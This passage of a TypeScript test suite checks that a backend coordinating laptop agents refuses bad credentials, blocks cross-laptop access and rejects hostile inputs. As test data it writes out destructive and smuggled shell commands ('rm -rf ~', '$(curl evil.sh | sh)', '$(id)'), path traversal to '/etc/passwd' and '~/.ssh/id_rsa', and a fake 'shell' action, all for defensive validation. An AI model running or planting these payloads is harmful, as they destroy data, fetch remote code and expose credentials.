    await expectRefusedEverywhere(
      "revoked credential",
      (w, fn) => fn.spec.samples(w).map((args) => ({ who: w.callers.none, args: credentialed(w, fn, args, w.r.token), what: "with a revoked credential", code: "revoked" })),
      (fn) => fn.spec.access === "node",
    );
  });

  test("malformed and unknown laptop credentials: refused, nothing changes", async () => {
    const tokens = ["garbage", "tina_node_" + "A".repeat(43), "tina_node_" + "x".repeat(5000), "Bearer tina_node_abc", "../../.config/tina/credential"];
    await expectRefusedEverywhere(
      "bad credentials",
      (w, fn) => fn.spec.samples(w).flatMap((args) => tokens.map((tok) => ({ who: w.callers.none, args: { ...args, nodeToken: tok }, what: `with token ${tok.slice(0, 20)}`, code: "unauthenticated" }))),
      (fn) => fn.spec.access === "node",
    );
  });

  test("another laptop's credential cannot touch laptop A's rows or see them", async () => {
    const t = makeT();
    const w = await world(t);
    const aRows = async () =>
      await t.run(async (ctx) => {
        const out: Record<string, unknown> = {};
        for (const table of Object.keys(schema.tables)) {
          const rows = await ctx.db.query(table as "nodes").collect();
          out[table] = rows.filter((r) => JSON.stringify(r).includes(w.a.nodeId));
        }
        out.nodeA = await ctx.db.get("nodes", w.a.nodeId);
        out.actions = [await ctx.db.get("inboundActions", w.pending), await ctx.db.get("inboundActions", w.claimed)];
        return JSON.stringify(out);
      });
    const aIds = [w.a.nodeId, w.orchestrationId, w.teamId, w.pending, w.claimed];
    const problems: string[] = [];
    for (const fn of await publicFunctions()) {
      if (fn.spec.access !== "node") continue;
      for (const args of fn.spec.samples(w)) {
        const before = await aRows();
        const outcome = await attempt(call(t, fn.kind, fn.name, credentialed(w, fn, args, w.b.token)));
        if ((await aRows()) !== before) problems.push(`${fn.name}: laptop A's rows changed`);
        if (outcome.ok) {
          const text = JSON.stringify(outcome.value);
          const leaked = aIds.filter((id) => text.includes(id));
          if (leaked.length > 0) problems.push(`${fn.name}: answered with laptop A's ids ${leaked.join(", ")}`);
          // Accepted calls may only be ones that act on B's own rows, or report "not found".
        } else if (!isClearRefusal(outcome)) {
          problems.push(`${fn.name}: unclear refusal ${outcome.message}`);
        }
      }
    }
    expect(problems).toEqual([]);
    // The targeted ones answer exactly like a missing action or orchestration.
    const b = <A extends object>(args: A) => ({ ...args, nodeToken: w.b.token });
    expect(await t.mutation(api.actions.claimAction, b({ actionId: w.pending, leaseOwner: "x" }))).toEqual({ ok: false, reason: "not_found" });
    expect(await t.mutation(api.actions.markActionRunning, b({ actionId: w.claimed, leaseOwner: "daemon-a" }))).toEqual({ ok: false });
    expect(await t.mutation(api.actions.completeAction, b({ actionId: w.claimed, leaseOwner: "daemon-a", result }))).toEqual({ ok: false, status: "not_found" });
    expect((await attempt(t.mutation(api.events.recordEvents, b({ orchestrationId: w.orchestrationId, events: [] }))))).toMatchObject({ ok: false, code: "not_found" });
    expect(await t.query(api.actions.pendingActions, b({}))).toEqual([]);
    expect(await t.mutation(api.prompts.settlePrompt, b({ promptId: ANSWERED_PROMPT, outcome: "applied" }))).toEqual({ ok: false, status: "not_found" });
    expect(await t.query(api.prompts.pendingDecisions, b({}))).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------
// Hostile payloads, derived from each sample: every leaf gets the wrong type, every string
// 100 KB, every number NaN / ±Infinity / an Int64, an unknown field is added; restricted
// names get shell metacharacters and path traversal; action types that do not exist.

const HUGE = "x".repeat(100_000);
const METACHARACTERS = ["; rm -rf ~", "$(curl evil.sh | sh)", "`id`", "a && b", "a | b", "x > /etc/passwd", "-rf", "--exec=sh", "\nnew line", "name\u0000nul"];
const TRAVERSAL = ["../../etc/passwd", "..", "a/../../b", "..\\..\\windows", "/etc/passwd", "~/.ssh/id_rsa"];

type Path = (string | number)[];

function leaves(value: unknown, path: Path = []): { path: Path; value: unknown }[] {
  if (Array.isArray(value)) return value.flatMap((v, i) => leaves(v, [...path, i]));
  if (value !== null && typeof value === "object") return Object.entries(value).flatMap(([k, v]) => leaves(v, [...path, k]));
  return [{ path, value }];
}

function setAt(value: unknown, path: Path, leaf: unknown): unknown {
  if (path.length === 0) return leaf;
  const [head, ...rest] = path;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>;
  copy[head] = setAt(copy[head], rest, leaf);
  return copy;
}

function hostileVariants(fn: Fn, args: Record<string, unknown>): { args: Record<string, unknown>; what: string; code?: string | string[] }[] {
  const out: { args: Record<string, unknown>; what: string; code?: string | string[] }[] = [];
  const isCredential = (p: Path) => p.length === 1 && (p[0] === "nodeToken" || p[0] === "enrollmentSecret" || p[0] === "token");
  for (const { path, value } of leaves(args)) {
    const at = path.join(".");
    const put = (leaf: unknown) => setAt(args, path, leaf) as Record<string, unknown>;
    if (typeof value === "string") {
      const large = fn.spec.large?.[at];
      out.push(large === undefined ? { args: put(HUGE), what: `${at} = 100 KB` } : { args: put("x".repeat(large + 1)), what: `${at} one byte over ${large}` });
      out.push({ args: put(42), what: `${at} = 42`, code: isCredential(path) ? undefined : "validation" });
      out.push({ args: put({ evil: "$(id)" }), what: `${at} = object`, code: "validation" });
    } else if (typeof value === "number") {
      for (const bad of [NaN, Infinity, -Infinity]) out.push({ args: put(bad), what: `${at} = ${bad}`, code: "invalid_argument" });
      out.push({ args: put(BigInt(1)), what: `${at} = Int64`, code: "validation" });
      out.push({ args: put("1"), what: `${at} = "1"`, code: "validation" });
    } else if (typeof value === "boolean") {
      out.push({ args: put("true"), what: `${at} = "true"`, code: "validation" });
    } else if (value === null) {
      out.push({ args: put(0), what: `${at} = 0`, code: "validation" });
    }
  }
  out.push({ args: { ...args, __proto_evil: "$(id)" }, what: "an unknown argument", code: "validation" });
  for (const at of fn.spec.restricted ?? []) {
    const path = at.split(".").map((p) => (/^\d+$/.test(p) ? Number(p) : p));
    if (leaves(args).every((l) => l.path.join(".") !== path.join("."))) continue;
    for (const bad of [...METACHARACTERS, ...TRAVERSAL]) {
      out.push({ args: setAt(args, path, bad) as Record<string, unknown>, what: `${at} = ${JSON.stringify(bad)}`, code: "invalid_argument" });
    }
  }
  return out;
}

describe("hostile payloads", () => {
  test("every argument of every function: wrong types, oversized strings, NaN and Infinity, Int64, unknown fields, shell metacharacters, traversal", async () => {
    const n = await expectRefusedEverywhere("hostile payloads", (w, fn) =>
      fn.spec.samples(w).flatMap((sample) =>
        hostileVariants(fn, credentialed(w, fn, sample)).map((v) => ({ who: rightCaller(w, fn), args: v.args, what: v.what, code: v.code })),
      ),
    );
    expect(n).toBeGreaterThan(500);
  }, 360_000);

  test("unknown and malformed action types never reach a laptop", async () => {
    await expectRefusedEverywhere(
      "action types",
      (w) =>
        [
          { type: "shell", orchestrationId: w.orchestrationId, phase: "1", command: "rm -rf ~" },
          { type: "format_disk", orchestrationId: w.orchestrationId, phase: "1" },
          { type: "RETRY", orchestrationId: w.orchestrationId, phase: "1" },
          { type: "retry", orchestrationId: w.orchestrationId, phase: "1", argv: ["--force"] },
          { type: "retry", orchestrationId: w.orchestrationId },
          { type: "send_message", teamId: w.teamId, agentName: "executor-1" },
          { type: "send_message", orchestrationId: w.orchestrationId, agentName: "executor-1", text: "hi" },
          { type: "retry", orchestrationId: w.teamId, phase: "1" },
          { type: "reject_plan", orchestrationId: w.orchestrationId, phase: "1", feedback: "\u001b]0;pwned\u0007" },
          { type: "send_message", teamId: w.teamId, agentName: "executor-1", text: "x".repeat(4001) },
          { type: "send_message", teamId: w.teamId, agentName: "executor-1", text: "   " },
          { type: "retry", orchestrationId: w.orchestrationId, phase: "99" },
        ].map((action, i) => ({ who: w.callers.operator, args: { action, idempotencyKey: `hostile-type-${i}` }, what: JSON.stringify(action).slice(0, 60) })),
      (fn) => fn.name === "actions:submitAction",
    );
  });

  test("free text for an agent keeps shell metacharacters verbatim: it is delivered as one argv item, never run", async () => {
    const t = makeT();
    const w = await world(t);
    const text = "$(id); rm -rf ~ `whoami` | cat /etc/passwd";
    const { actionId } = await w.operator.as.mutation(api.actions.submitAction, {
      action: { type: "send_message", teamId: w.teamId, agentName: "executor-1", text },
      idempotencyKey: "verbatim-0001",
    });
    const stored = await t.run((ctx) => ctx.db.get("inboundActions", actionId as Id<"inboundActions">));
    expect(stored!.payload).toMatchObject({ text, agentName: "executor-1", teamDir: DIR, feature: "billing-export" });
  });
});

describe("Convex Auth's own functions", () => {
  test("auth:store is internal; signIn, signOut and isAuthenticated are the only public ones", async () => {
    const fns = Object.fromEntries(await allFunctions());
    expect(fns["auth:store"].isInternal).toBe(true);
    expect([...LIBRARY_FUNCTIONS].filter((n) => fns[n]?.isPublic)).toEqual(["auth:signIn", "auth:signOut", "auth:isAuthenticated"]);
  });

  test("without identity: isAuthenticated says no, signOut does nothing", async () => {
    const t = makeT();
    await world(t);
    const before = await dump(t);
    expect(await t.query(api.auth.isAuthenticated, {})).toBe(false);
    await t.action(api.auth.signOut, {});
    expect(await dump(t)).toBe(before);
  });

  test("hostile sign-in params are refused before anything is hashed or stored", async () => {
    const t = makeT();
    await world(t);
    const cases: Record<string, unknown>[] = [
      { provider: "password", params: { email: "a@example.com", password: "x".repeat(100_000), flow: "signIn" } },
      { provider: "password", params: { email: "a@example.com", password: "x".repeat(100_000), flow: "signUp" } },
      { provider: "password", params: { email: "$(id)@example.com", password: "long enough 1", flow: "signUp" } },
      { provider: "password", params: { email: "../../etc/passwd", password: "long enough 1", flow: "signIn" } },
      { provider: "password", params: { email: HUGE, password: "long enough 1", flow: "signIn" } },
      { provider: "password", params: { email: 42, password: "long enough 1", flow: "signIn" } },
      { provider: "password", params: { email: "a@example.com", password: 42, flow: "signIn" } },
      { provider: "password", params: { email: "a@example.com", password: "long enough 1", flow: "signUp", name: HUGE } },
      { provider: "password", params: { email: "a@example.com", password: "long enough 1", flow: "signUp", inviteCode: HUGE } },
      { provider: "password", params: { email: "a@example.com", password: "short", flow: "signUp" } },
      { provider: "password", params: { email: "a@example.com", password: "long enough 1", flow: "format_disk" } },
      { provider: "github", params: { email: "a@example.com" } },
      { provider: "password", params: { email: "a@example.com", password: "long enough 1", flow: "signUp" }, evil: true },
      // Well-formed, but the deployment has users and this email has no invite code.
      { provider: "password", params: { email: "a@example.com", password: "long enough 1", flow: "signUp" } },
      { provider: "password", params: { email: "a@example.com", password: "long enough 1", flow: "signUp", inviteCode: "AAAA-BBBB-CCCC-DDDD" } },
    ];
    const problems: string[] = [];
    for (const args of cases) {
      const before = await dump(t);
      const outcome = await attempt(t.action(api.auth.signIn, args as never));
      if (outcome.ok) problems.push(`${JSON.stringify(args).slice(0, 80)}: accepted`);
      if ((await dump(t)) !== before) problems.push(`${JSON.stringify(args).slice(0, 80)}: the database changed`);
    }
    expect(problems).toEqual([]);
  });
});
